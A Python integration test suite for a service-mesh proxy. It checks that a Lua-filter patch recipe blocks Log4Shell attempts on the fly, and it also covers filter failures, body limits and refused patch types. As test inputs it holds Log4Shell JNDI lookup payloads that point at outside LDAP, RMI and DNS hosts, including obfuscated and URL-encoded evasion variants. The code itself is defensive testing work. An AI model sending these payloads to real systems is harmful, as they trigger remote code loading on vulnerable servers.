"""Lua filters of MeshProxyPatch between real programs: the Log4Shell recipe takes hold and lets go, with no restart."""
import pathlib
import textwrap
import time

import case
from case import documents, wait_for

DOCS = pathlib.Path(__file__).resolve().parents[2] / "docs"
RECIPE = (DOCS / "log4shell.yaml").read_text()
PORT = 8080
LDAP = "${jndi:ldap://10.9.9.9/a}"


def patch(code, name="filter", label="", origin="inbound"):
    """A MeshProxyPatch that adds a Lua filter with this code."""
    code = textwrap.indent(textwrap.dedent(code), " " * 14)
    labels = f"labels: {{{label}}}\n" if label else ""
    return f"""type: MeshProxyPatch
mesh: default
name: {name}
{labels}spec:
  targetRef: {{kind: Mesh}}
  default:
    appendModifications:
    - httpFilter:
        operation: AddFirst
        match: {{origin: {origin}}}
        value: |
          name: {name}
          typedConfig:
            "@type": type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua
            inlineCode: |
{code}
"""


class LuaFilter(case.TwoNodes):
    lab_name = "lua"
    outbounds = ((9080, "app"),)

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.log = case.programs.logging_app(cls.lab, cls.lab.netns("app"), PORT)

    @classmethod
    def documents(cls):
        if "app" not in cls.address:
            cls.address["app"] = cls.lab.add_workload("b", "app")
        attach = case.netns_attach(cls.lab, "app")
        return "---".join([super().documents(),
                           documents.dataplane("app-1", "b", "app", cls.address["app"][:1], attach, [PORT], "http"),
                           documents.allow("app-clients", "app", cls.clients)])

    def apply(self, instance, text, name="filter"):
        instance.apply(text)
        self.addCleanup(instance.sluice, "delete", "MeshProxyPatch", name, check=False)

    def ask(self, path, *options):
        """(status, body) of a request to the application, without the newline at its end."""
        done = self.curl("client", f"http://127.0.0.1:9080{path}", "-g", "-w", "\n%{http_code}", *options)
        body, _, status = done.stdout.rpartition("\n")
        return int(status or 0), body.rstrip("\n")

    def exploits(self, text):
        return {"path": self.ask("/search?q=" + text), "header": self.ask("/", "-H", "X-Api-Version: " + text),
                "body": self.ask("/", "--data-binary", "name=" + text)}

    def logged(self):
        return self.log.read_text(errors="replace")

    def ended(self, instance, reason):
        """How often requests ended for this reason, as the node counts."""
        lines = instance.sluice("metrics").stdout.splitlines()
        return sum(int(float(line.split()[-1])) for line in lines
                   if line.startswith("sluice_connections_ended_total") and f'"{reason}"' in line)

    def test_log4shell_is_stopped_at_once_and_nothing_else_is(self):
        held = self.hold("neighbour", "held")
        pids = self.b.pids()
        for where, (status, _) in self.exploits(LDAP).items():
            self.assertEqual(200, status, f"{where}, before the policy")
        self.assertIn(LDAP, self.logged(), "the application logs what it is sent")
        self.log.write_text("")
        begin = time.monotonic()
        self.apply(self.b, RECIPE, "no-log4shell")
        for where, (status, body) in self.exploits(LDAP).items():
            self.assertEqual((403, True), (status, body.startswith("refused: an exploit in ")), f"{where}: {body}")
        self.assertLess(time.monotonic() - begin, 3.0)
        for text in ("${${lower:j}ndi:ldap://e/a}", "${${::-j}${::-n}di:rmi://e/a}", "%24%7Bjndi:ldap://e/a%7D",
                     "%2524%257Bjndi:ldap://e/a%257D", "${JnDi:dns://e}"):
            for where, (status, _) in self.exploits(text).items():
                self.assertEqual(403, status, f"{text} in {where}")
        self.assertEqual(403, self.ask("/", "--http2-prior-knowledge", "-H", "User-Agent: " + LDAP)[0])
        self.assertNotIn("jndi", self.logged().lower(), "something reached the application")
        self.assertEqual((200, "/search?q=jndi hello"), self.ask("/search?q=jndi", "-d", "hello"))
        self.assertEqual(200, self.ask("/", "--http2-prior-knowledge", "-H", "Cookie: a=${b}")[0])
        self.assertEqual(pids, self.b.pids(), "nothing was restarted")
        self.assertGreaterEqual(self.ended(self.b, "lua_answered"), 19)
        line = wait_for(lambda: next((one for one in self.b.log.read_text().splitlines()
                                      if "lua_answered" in one and "path=/search" in one), None), "the access line")
        self.assertIn("status=403", line)
        self.assertIn("MeshProxyPatch/no-log4shell", line)
        self.assertEqual(403, self.ask("/search?q=" + LDAP)[0])
        out = self.b.sluice("explain", "--client", self.address["client"][0], check=False).stdout
        self.assertIn("lua_answered", out)
        self.assertIn("no-log4shell", out)
        self.assertIn("Lua filter no-log4shell: an exploit in ", self.b.log.read_text())
        # web speaks HTTP too, and was relayed unread until now.
        wait_for(lambda: "ended" in held.read_text(), "the connection that nobody reads to end")
        self.assertLessEqual(1, self.ended(self.b, "lua_live"))
        self.b.sluice("delete", "MeshProxyPatch", "no-log4shell")
        self.assertEqual(200, self.exploits(LDAP)["header"][0])

    def test_what_fails_is_refused_or_passes_by_the_label(self):
        for code, reason in (("while true do end", "lua_overrun"), ("error('broken')", "lua_failed"),
                             ("local t = {} while true do t[#t + 1] = ('x'):rep(9999) .. #t end", "lua_memory")):
            text = f"function envoy_on_request(h) {code} end"
            before = self.ended(self.b, reason)
            self.apply(self.b, patch(text))
            self.assertEqual(500, self.ask("/closed")[0], code)
            self.assertEqual(before + 1, self.ended(self.b, reason), code)
            before = self.ended(self.b, "lua_failed_open")
            self.b.apply(patch(text, label="sluice.io/lua-on-error: open"))
            self.assertEqual((200, "/open x"), self.ask("/open", "-d", "x"), code)
            self.assertEqual(before + 1, self.ended(self.b, "lua_failed_open"), code)

    def test_a_stored_script_that_does_not_compile_any_more_refuses_and_says_so(self):
        self.apply(self.b, patch("function envoy_on_request(h) --[[was fine]] end"))
        self.assertEqual(200, self.ask("/before")[0])
        stored = next(path for path in (self.b.directory / "state/resources").iterdir()
                      if path.is_file() and "was fine" in path.read_text())
        stored.write_text(stored.read_text().replace("--[[was fine]]", "= not Lua"))
        before = self.ended(self.b, "lua_not_loaded")
        agent = self.b.pids()["agent"]
        case.run("kill", "-9", str(agent))
        wait_for(lambda: (self.b.status(check=False) or {}).get("agent_pid", agent) != agent, "another agent", 30.0)
        wait_for(lambda: self.ask("/after")[0] == 500, "requests to be refused", 30.0)
        self.assertLess(before, self.ended(self.b, "lua_not_loaded"))
        checked = self.b.sluice("check", check=False)
        self.assertEqual(1, checked.returncode, checked.stdout)
        self.assertIn("does not compile", checked.stdout)
        told = self.b.sluice("explain", "--from", "client-1", "--to", f"{self.address['app'][0]}:{PORT}").stdout
        self.assertIn("lua_not_loaded", told)
        self.b.apply(patch("function envoy_on_request(h) end"))
        self.assertEqual(200, self.ask("/mended")[0])

    def test_bodies_are_seen_up_to_a_bound(self):
        self.apply(self.b, patch("function envoy_on_request(h) if h:body() then "
                                 "h:headers():add('x-size', h:body():length()) end end"))
        file = self.lab.directory / "body"
        file.write_text("b" * 65536)
        self.assertEqual((200, "/a " + "b" * 65536), self.ask("/a", "--data-binary", f"@{file}"))
        self.assertIn("x-size: 65536", self.logged())
        file.write_text("b" * 65537)
        self.assertEqual(413, self.ask("/b", "--data-binary", f"@{file}")[0])
        self.assertEqual(1, self.ended(self.b, "lua_body_too_long"))

    def test_a_clients_filter_acts_on_its_own_node(self):
        self.apply(self.a, patch("""\
            function envoy_on_request(h) h:headers():add('x-from', 'the client node') end
            function envoy_on_response(h) h:headers():add('x-back', h:headers():get(':status')) end
            """, origin="outbound"))
        done = self.curl("client", "http://127.0.0.1:9080/out", "-i")
        self.assertIn("x-back: 200", done.stdout.lower())
        self.assertIn("x-from: the client node", self.logged())

    def test_other_patches_are_refused_and_say_so(self):
        raw = """type: MeshProxyPatch
mesh: default
name: raw
spec:
  targetRef: {kind: Mesh}
  default:
    appendModifications:
    - cluster: {operation: Add, value: "{name: c, connect_timeout: 1s, type: STATIC}"}
"""
        last = patch("function envoy_on_request(h) end", "raw").replace("AddFirst", "AddLast")
        file = patch("", "raw").replace("inlineCode: |", "defaultSourceCode: {filename: /etc/filter.lua}")
        broken = patch("function envoy_on_request(h) end end", "raw")
        for text in (raw, last, file, broken):
            done = self.b.sluice("apply", "-f", "-", stdin=text, check=False)
            self.assertEqual(1, done.returncode, done.stdout)
            self.assertIn('MeshProxyPatch "raw": refused', done.stdout + done.stderr)
        self.assertNotIn("raw", self.b.sluice("get", "MeshProxyPatch").stdout)


if __name__ == "__main__":
    case.main()
